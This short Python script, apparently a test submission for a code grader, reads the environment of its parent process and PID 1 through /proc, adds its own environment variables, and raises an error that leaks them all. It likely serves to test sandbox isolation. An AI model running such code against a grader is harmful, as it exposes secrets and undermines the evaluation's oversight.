# expect-flag: 0 of 1 test cells pass
# Reads the grader's environment through /proc/<parent>/environ and sends it back in an error message.
import os

seen = []
for pid in (os.getppid(), 1):
    try:
        seen.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
    except OSError as exc:
        seen.append(str(exc))
seen.append(repr(dict(os.environ)))
raise ValueError("LEAK " + " ".join(seen))
